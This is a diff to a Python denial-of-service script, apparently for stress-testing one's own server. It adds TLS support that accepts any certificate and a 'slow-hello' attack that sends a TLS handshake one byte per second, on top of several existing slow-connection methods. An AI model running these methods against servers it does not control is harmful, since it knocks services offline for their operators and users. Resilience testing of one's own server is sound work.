@@ -1,11 +1,13 @@
 """A machine that wants to keep a server from answering others, in the ways of WAYS, until it is stopped.
 
-    python attackers.py WAY HOST PORT PAGE [FROM]
+    python attackers.py WAY HOST PORT PAGE [FROM [https]]
 
 PAGE is the path of a page that the server has, FROM the address that the machine takes, 127.0.0.1 if no other is given.
+With "https" it speaks TLS, and trusts whatever certificate it is shown.
 It prints "attacking" once it has begun. It is for a server of one's own on this machine.
 """
 
+import ssl
 import sys
 import time
 import zlib
@@ -28,13 +30,19 @@ PAUSE = 0.2
 class Target:
     """Where the server is, a page of its, and from where it is attacked."""
 
-    def __init__(self, host: str, port: int, page: str, source: str) -> None:
+    def __init__(self, place: tuple[str, int], page: str, source: str, *, tls: bool) -> None:
         self.page = page
-        self._place = (host, port)
+        self._place = place
         self._source = source
+        self._context = ssl._create_unverified_context() if tls else None  # noqa: S323, SLF001  # one's own server
 
     def reached(self) -> socket:
         """A connection. Raises OSError where it is refused, which an attacker expects."""
+        connection = self.called()
+        return self._context.wrap_socket(connection) if self._context else connection
+
+    def called(self) -> socket:
+        """A connection on which nothing was said yet, not even what TLS begins with. Raises OSError."""
         return create_connection(self._place, timeout=30, source_address=(self._source, 0))
 
     def head(self, method: str, path: str, *lines: str) -> bytes:
@@ -52,6 +60,14 @@ def idle(target: Target) -> None:
     """A connection on which nothing is asked."""
     with target.reached() as connection:
         connection.recv(1000)
+
+
+def slow_hello(target: Target) -> None:
+    """What TLS begins with (RFC 8446, 4.1.2), of which a byte comes every second."""
+    with target.called() as connection:
+        for byte in b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500):
+            connection.sendall(bytes([byte]))
+            time.sleep(1)
 
 
 def slow_head(target: Target) -> None:
@@ -128,6 +144,7 @@ def asking(target: Target) -> None:
 
 WAYS: dict[str, tuple[Callable[[Target], None], int]] = {
     "idle": (idle, MANY),
+    "slow-hello": (slow_hello, MANY),
     "slow-head": (slow_head, MANY),
     "slow-body": (slow_body, MANY),
     "slow-start": (slow_start, SOME),
@@ -205,9 +222,9 @@ def _again_and_again(way: Callable[[Target], None], target: Target) -> None:
 
 def main() -> None:
     """Attack until stopped."""
-    name, host, port, page, *source = sys.argv[1:]
+    name, host, port, page, *rest = sys.argv[1:]
     way, times = WAYS[name]
-    target = Target(host, int(port), page, *(source or ["127.0.0.1"]))
+    target = Target((host, int(port)), page, rest[0] if rest else "127.0.0.1", tls="https" in rest)
     for _ in range(times):
         Thread(target=_again_and_again, args=(way, target), daemon=True).start()
     time.sleep(1)
